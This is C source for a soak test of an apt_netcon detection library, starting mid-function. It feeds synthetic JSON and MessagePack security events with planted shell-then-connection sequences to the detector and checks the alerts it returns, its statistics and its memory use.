            w(b, ",\"extension\":");
            q(b, dot + 1);
        }
        w(b, "},\"process\":{");
        proc_ids(b, e->pid, e->name, e->exe, e->ent_c, e->ent, h);
        w(b, "}}");
        break;
    }
    case K_NET: {
        int v6 = strchr(e->ip, ':') != NULL;
        w(b, ",\"source\":{\"ip\":");
        q(b, v6 ? "2a01:4f8:c17:b8f::2" : h->ip);
        w(b, ",\"port\":");
        u(b, 32768 + e->pid % 28000);
        w(b, "},\"destination\":{\"ip\":");
        q(b, e->ip);
        w(b, ",\"port\":");
        u(b, e->port);
        w(b, "},\"network\":{\"transport\":\"tcp\",\"type\":");
        q(b, v6 ? "ipv6" : "ipv4");
        w(b, ",\"direction\":");
        q(b, strcmp(e->action, "connection_accepted") == 0 ? "ingress" : "egress");
        w(b, "},\"process\":{");
        proc_ids(b, e->pid, e->name, e->exe, e->ent_c, e->ent, h);
        w(b, ",\"parent\":{\"pid\":");
        u(b, e->ppid);
        w(b, ",\"entity_id\":");
        ent_id(b, e->pent_c, e->pent, h);
        w(b, "}}}");
        break;
    }
    case K_DNS:
        w(b, ",\"dns\":{\"question\":{\"name\":");
        q(b, e->path);
        w(b, ",\"type\":\"A\"},\"resolved_ip\":[\"151.101.2.132\"]},\"process\":{");
        proc_ids(b, e->pid, e->name, e->exe, e->ent_c, e->ent, h);
        w(b, "}}");
        break;
    }
}

/* ------------------------------------------------------------------------ */
/* The same record as a Fluent Bit chunk of one record:
 * [[EventTime(sec, nsec), {}], {body}]. Converts the JSON just written
 * (objects, arrays, strings without escapes, unsigned integers). */

typedef struct {
    uint8_t p[REC_CAP];
    size_t len;
} bytes;

static void mb(bytes *o, const void *src, size_t n) {
    if (o->len + n > REC_CAP) abort();
    memcpy(o->p + o->len, src, n);
    o->len += n;
}

static void m8(bytes *o, uint8_t v) { mb(o, &v, 1); }

static void mbe(bytes *o, uint64_t v, int n) {
    for (int i = n - 1; i >= 0; i--) m8(o, (uint8_t)(v >> (8 * i)));
}

static const char *mp_value(const char *p, bytes *o) {
    if (*p == '{' || *p == '[') {
        int obj = *p == '{';
        char close = obj ? '}' : ']';
        size_t at = o->len;
        m8(o, obj ? 0xdf : 0xdd); /* map32 / array32; the count is patched in */
        mbe(o, 0, 4);
        uint32_t count = 0;
        p++;
        while (*p != close) {
            if (obj) {
                p = mp_value(p, o); /* key */
                if (*p++ != ':') abort();
            }
            p = mp_value(p, o);
            count++;
            if (*p == ',') p++;
        }
        for (int i = 0; i < 4; i++) o->p[at + 1 + i] = (uint8_t)(count >> (8 * (3 - i)));
        return p + 1;
    }
    if (*p == '"') {
        const char *end = strchr(p + 1, '"');
        size_t n = (size_t)(end - p - 1);
        if (memchr(p + 1, '\\', n)) abort();
        if (n < 32) m8(o, (uint8_t)(0xa0 | n));
        else if (n < 256) m8(o, 0xd9), m8(o, (uint8_t)n);
        else m8(o, 0xda), mbe(o, n, 2);
        mb(o, p + 1, n);
        return end + 1;
    }
    if (*p >= '0' && *p <= '9') {
        char *end;
        unsigned long long v = strtoull(p, &end, 10);
        if (v < 128) m8(o, (uint8_t)v);
        else if (v < 65536) m8(o, 0xcd), mbe(o, v, 2);
        else if (v <= 0xffffffffULL) m8(o, 0xce), mbe(o, v, 4);
        else m8(o, 0xcf), mbe(o, v, 8);
        return end;
    }
    abort(); /* the generator writes nothing else */
}

static void to_chunk(const text *json, int64_t ms, bytes *o) {
    o->len = 0;
    m8(o, 0x92);
    m8(o, 0x92);
    m8(o, 0xd7); /* fixext 8, type 0: EventTime */
    m8(o, 0x00);
    mbe(o, (uint64_t)(ms / 1000), 4);
    mbe(o, (uint64_t)(ms % 1000) * 1000000, 4);
    m8(o, 0x80);
    char z[REC_CAP + 1];
    memcpy(z, json->p, json->len);
    z[json->len] = '\0';
    const char *end = mp_value(z, o);
    if (*end != '\0') abort();
}

/* ------------------------------------------------------------------------ */
/* Memory. */

static uint64_t rss_bytes(void) {
    FILE *f = fopen("/proc/self/status", "r");
    if (!f) return 0;
    char line[256];
    uint64_t kib = 0;
    while (fgets(line, sizeof line, f))
        if (sscanf(line, "VmRSS: %" SCNu64 " kB", &kib) == 1) break;
    fclose(f);
    return kib * 1024;
}

static int sanitized(void) { return __sanitizer_get_current_allocated_bytes != NULL; }

static uint64_t heap_bytes(void) {
    if (sanitized()) return __sanitizer_get_current_allocated_bytes();
    struct mallinfo2 mi = mallinfo2();
    return mi.uordblks + mi.hblkhd;
}

typedef struct {
    uint64_t rss_start, rss_end, rss_max;
    uint64_t heap_start, heap_end, heap_max;
    uint64_t rss_base, heap_base; /* first sample after the warm-up */
    int based;
} memory;

static void sample(memory *m, const options *opt, const char *pass, uint64_t at) {
    uint64_t rss = rss_bytes(), heap = heap_bytes();
    if (rss > m->rss_max) m->rss_max = rss;
    if (heap > m->heap_max) m->heap_max = heap;
    m->rss_end = rss;
    m->heap_end = heap;
    if (opt->verbose)
        printf("soak: %s: after %" PRIu64 " records: RSS %" PRIu64 " KiB, heap in use %" PRIu64 " KiB\n", pass, at,
               rss / 1024, heap / 1024);
    if (!m->based) {
        m->based = 1;
        m->rss_base = rss;
        m->heap_base = heap;
        return;
    }
    if (heap > m->heap_base + opt->heap_slack)
        fail("%s: heap in use grew from %" PRIu64 " to %" PRIu64 " bytes by record %" PRIu64 " (slack %" PRIu64 ")",
             pass, m->heap_base, heap, at, opt->heap_slack);
    if (!sanitized() && rss > m->rss_base + opt->rss_slack)
        fail("%s: VmRSS grew from %" PRIu64 " to %" PRIu64 " bytes by record %" PRIu64 " (slack %" PRIu64 ")", pass,
             m->rss_base, rss, at, opt->rss_slack);
}

/* ------------------------------------------------------------------------ */
/* One pass. */

typedef struct {
    uint64_t in, out, annotated, standalone, planted_found, unplanted, bytes_in, bytes_out, other_status;
    uint64_t missed, first_missed; /* planted connections a filter call did not annotate */
    double elapsed, in_library;
} tally;

static double now_s(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Standalone alert records: records out that no filter call returned, as
 * newline-delimited JSON (each record ends with '\n'). Each one counts as a
 * record out and must be the alert of a planted sequence. This is where
 * every record a detector hands out besides a call's own is counted. */
static void count_standalone(const char *pass, const uint8_t *p, size_t n, tally *t) {
    while (n > 0) {
        const uint8_t *nl = memchr(p, '\n', n);
        size_t len = nl ? (size_t)(nl - p) + 1 : n;
        t->standalone++;
        t->out++;
        t->bytes_out += len;
        if (memmem(p, len, "\"plant-", 7) && memmem(p, len, "-net\"", 5)) {
            t->planted_found++;
        } else {
            t->unplanted++;
            fail("%s: a standalone alert record that was not planted: %.*s", pass, (int)(len < 200 ? len : 200), p);
        }
        p += len;
        n -= len;
    }
}

/* The host's periodic flush: aptnc_flush() drops what can no longer
 * complete, and its report may carry standalone alert records. */
static void flush(const char *pass, aptnc_detector *det, tally *t) {
    aptnc_flush_report rep;
    memset(&rep, 0, sizeof rep);
    rep.size = sizeof rep;
    aptnc_status s = aptnc_flush(det, &rep);
    if (s != APTNC_STATUS_OK) {
        fail("%s: aptnc_flush: %s", pass, aptnc_status_str(s));
        return;
    }
    count_standalone(pass, rep.alerts, rep.alerts_len, t);
}

/* The annotated output of a planted connection: it must name its own shell
 * and keep the input's members (`prefix` bytes of the input, the record
 * without its closing brace). */
static void check_annotated(const char *pass, int msgpack, const ev *e, const uint8_t *in, size_t prefix,
                            const uint8_t *out, size_t out_len, tally *t) {
    /* The shell's event.id as a JSON string, or as a MessagePack fixstr. */
    char id[40], marker[48];
    int n = snprintf(id, sizeof id, "plant-%" PRIu64 "-sh", e->scen);
    size_t marker_len;
    if (msgpack) {
        marker[0] = (char)(0xa0 | n);
        memcpy(marker + 1, id, (size_t)n);
        marker_len = (size_t)n + 1;
    } else {
        marker_len = (size_t)snprintf(marker, sizeof marker, "\"%s\"", id);
    }
    if (e->role != R_PLANT || !e->planted_net) {
        t->unplanted++;
        fail("%s: alert on a record that was not planted: %s-%" PRIu64 " part %u", pass, ROLE_NAME[e->role], e->scen,
             e->part);
        return;
    }
    t->planted_found++;
    if (!memmem(out, out_len, marker, marker_len))
        fail("%s: plant %" PRIu64 ": alert without its shell", pass, e->scen);
    if (prefix && (out_len < prefix || memcmp(out, in, prefix) != 0))
        fail("%s: plant %" PRIu64 ": annotated record does not keep the input's members", pass, e->scen);
}

static int check_stats(const char *pass, aptnc_detector *det, const gen *g, const tally *t) {
    aptnc_stats st;
    memset(&st, 0, sizeof st);
    st.size = sizeof st;
    if (aptnc_get_stats(det, &st) != APTNC_STATUS_OK) {
        fail("%s: aptnc_get_stats failed", pass);
        return 0;
    }
#define WANT(field, value)                                                                                   \
    if (st.field != (uint64_t)(value))                                                                       \
        fail("%s: stats." #field " = %" PRIu64 ", expected %" PRIu64, pass, (uint64_t)st.field, (uint64_t)(value));
    WANT(records, t->in);
    WANT(annotated, g->planted);
    WANT(annotated, t->annotated);
    WANT(sequences_completed, g->planted);
    WANT(stage1_matches, g->s1);
    WANT(stage2_matches, g->s2);
    WANT(evicted_by_cap, 0);
    WANT(late, 0);
    WANT(missing_key, 0);
    WANT(key_combinations_truncated, 0);
    WANT(invalid_ip, 0);
    WANT(too_large, 0);
    WANT(invalid_json, 0);
    WANT(invalid_msgpack, 0);
    WANT(not_an_object, 0);
    WANT(too_deep, 0);
    WANT(bad_timestamp, 0);
    WANT(annotate_failed, 0);
    WANT(excluded, 0);
#undef WANT
    printf("soak: %s stats: stage1_matches=%" PRIu64 " stage2_matches=%" PRIu64 " sequences_completed=%" PRIu64
           " rejected_by_maxspan=%" PRIu64 " expired_by_maxspan=%" PRIu64 " replaced=%" PRIu64 " out_of_order=%" PRIu64
           " pending=%" PRIu64 "\n",
           pass, st.stage1_matches, st.stage2_matches, st.sequences_completed, st.rejected_by_maxspan,
           st.expired_by_maxspan, st.replaced, st.out_of_order, st.pending);
    return 1;
}

static void run_pass(const options *opt, int msgpack) {
    const char *pass = msgpack ? "msgpack" : "json";
    aptnc_detector *det = NULL;
    aptnc_error *err = NULL;
    if (aptnc_init(NULL, 0, NULL, &det, &err) != APTNC_STATUS_OK) {
        fail("aptnc_init: %s", aptnc_error_message(err));
        aptnc_error_free(err);
        return;
    }
    static gen g;
    static text rec;
    static bytes chunk;
    gen_init(&g, opt);
    tally t;
    memset(&t, 0, sizeof t);
    memory m;
    memset(&m, 0, sizeof m);
    m.rss_start = rss_bytes();
    m.heap_start = heap_bytes();
    uint64_t warm_up = opt->records / 10 > opt->sample_every ? opt->records / 10 : opt->sample_every;
    FILE *dump = NULL;
    if (opt->dump && !msgpack && !(dump = fopen(opt->dump, "w"))) fail("cannot write %s", opt->dump);
    double start = now_s();
    for (uint64_t i = 0; i < opt->records; i++) {
        ev e;
        next_event(&g, &e);
        render(&g, &e, i, &rec);
        if (dump) fwrite(rec.p, 1, rec.len, dump), fputc('\n', dump);
        const uint8_t *in = (const uint8_t *)rec.p;
        size_t in_len = rec.len;
        if (msgpack) {
            to_chunk(&rec, e.t, &chunk);
            in = chunk.p;
            in_len = chunk.len;
        }
        const uint8_t *out = NULL;
        size_t out_len = 0;
        double t0 = now_s();
        aptnc_status s = msgpack ? aptnc_filter_msgpack(det, in, in_len, &out, &out_len)
                                 : aptnc_filter(det, in, in_len, &out, &out_len);
        t.in_library += now_s() - t0;
        t.in++;
        t.bytes_in += in_len;
        /* Exactly one record out per call: the annotated bytes or the input
         * (standalone records come on top: count_standalone()). */
        if (s == APTNC_STATUS_ANNOTATED) {
            if (out == NULL || out_len == 0) fail("%s: record %" PRIu64 ": ANNOTATED without bytes", pass, i);
            t.annotated++;
            t.out++;
            t.bytes_out += out_len;
            check_annotated(pass, msgpack, &e, in, msgpack ? 0 : in_len - 1, out, out_len, &t);
        } else {
            if (s != APTNC_STATUS_UNCHANGED) {
                t.other_status++;
                if (t.other_status <= 5)
                    fail("%s: record %" PRIu64 " (%s): %s", pass, i, ROLE_NAME[e.role], aptnc_status_str(s));
            }
            t.out++;
            t.bytes_out += in_len;
            if (e.planted_net && t.missed++ == 0) t.first_missed = e.scen;
        }
        if ((i + 1) % opt->sample_every == 0) {
            /* A host's periodic flush: may hand out standalone records. */
            flush(pass, det, &t);
            if (i + 1 >= warm_up) sample(&m, opt, pass, i + 1);
        }
    }
    flush(pass, det, &t);
    t.elapsed = now_s() - start;
    if (dump && fclose(dump) != 0) fail("cannot write %s", opt->dump);
    if (g.h.n != 0) fail("%s: %zu scheduled records never written", pass, g.h.n);
    if (t.out != t.in + t.standalone) fail("%s: %" PRIu64 " records in, %" PRIu64 " out", pass, t.in, t.out);
    if (t.planted_found != g.planted || t.unplanted != 0)
        fail("%s: %" PRIu64 " of %" PRIu64 " planted sequences found (%" PRIu64 " not annotated by their call,"
             " the first plant-%" PRIu64 "), %" PRIu64 " alerts not planted",
             pass, t.planted_found, g.planted, t.missed, t.first_missed, t.unplanted);
    check_stats(pass, det, &g, &t);
    sample(&m, opt, pass, opt->records);
    printf("soak: %s: records in %" PRIu64 ", out %" PRIu64 " (%" PRIu64 " annotated, %" PRIu64
           " standalone); alerts %" PRIu64 " of %" PRIu64 " planted, %" PRIu64 " not planted; %.2f s, %.0f records/s"
           " (%.0f records/s in the library); %.1f MB in, %.1f MB out; RSS start %.1f MiB, end %.1f MiB, max %.1f MiB;"
           " heap start %.2f MiB, end %.2f MiB, max %.2f MiB\n",
           pass, t.in, t.out, t.annotated, t.standalone, t.planted_found, g.planted, t.unplanted, t.elapsed,
           (double)t.in / t.elapsed, (double)t.in / t.in_library, (double)t.bytes_in / 1e6, (double)t.bytes_out / 1e6,
           (double)m.rss_start / 1048576, (double)m.rss_end / 1048576, (double)m.rss_max / 1048576,
           (double)m.heap_start / 1048576, (double)m.heap_end / 1048576, (double)m.heap_max / 1048576);
    fflush(stdout);
    aptnc_free(det);
    gen_free(&g);
}

/* ------------------------------------------------------------------------ */

static int opt_u64(const char *arg, const char *name, uint64_t *v) {
    size_t n = strlen(name);
    if (strncmp(arg, name, n) != 0 || arg[n] != '=') return 0;
    char *end;
    *v = strtoull(arg + n + 1, &end, 10);
    if (*end != '\0' || end == arg + n + 1) {
        fprintf(stderr, "soak: bad value in %s\n", arg);
        exit(2);
    }
    return 1;
}

int main(int argc, char **argv) {
    options opt = {.records = 1000000, .hosts = 1000, .seed = 20260314, .sample_every = 100000,
                   .heap_slack = 1 << 20, .rss_slack = 4 << 20};
    for (int i = 1; i < argc; i++) {
        uint64_t v;
        if (opt_u64(argv[i], "--hosts", &v)) opt.hosts = (uint32_t)v;
        else if (opt_u64(argv[i], "--seed", &v)) opt.seed = v;
        else if (opt_u64(argv[i], "--sample-every", &v)) opt.sample_every = v;
        else if (opt_u64(argv[i], "--heap-slack-kib", &v)) opt.heap_slack = v * 1024;
        else if (opt_u64(argv[i], "--rss-slack-kib", &v)) opt.rss_slack = v * 1024;
        else if (strcmp(argv[i], "--json-only") == 0) opt.json_only = 1;
        else if (strcmp(argv[i], "--verbose") == 0) opt.verbose = 1;
        else if (strncmp(argv[i], "--dump=", 7) == 0) opt.dump = argv[i] + 7;
        else if (argv[i][0] != '-') {
            char *end;
            opt.records = strtoull(argv[i], &end, 10);
            if (*end != '\0') {
                fprintf(stderr, "soak: bad record count %s\n", argv[i]);
                return 2;
            }
        } else {
            fprintf(stderr,
                    "usage: %s [RECORDS] [--hosts=H] [--seed=S] [--sample-every=K] [--heap-slack-kib=X]"
                    " [--rss-slack-kib=Y] [--json-only] [--verbose] [--dump=FILE]\n",
                    argv[0]);
            return 2;
        }
    }
    if (opt.hosts == 0 || opt.sample_every == 0) {
        fprintf(stderr, "soak: --hosts and --sample-every must be positive\n");
        return 2;
    }
    printf("soak: apt_netcon %s, %" PRIu64 " records, %u hosts, seed %" PRIu64 "%s\n", aptnc_version(), opt.records,
           opt.hosts, opt.seed,
           sanitized() ? ", AddressSanitizer (RSS not checked: freed blocks stay in quarantine)" : "");
    run_pass(&opt, 0);
    if (!opt.json_only) run_pass(&opt, 1);
    if (failures) {
        fprintf(stderr, "soak: %d check(s) failed\n", failures);
        return 1;
    }
    printf("soak: ok\n");
    return 0;
}
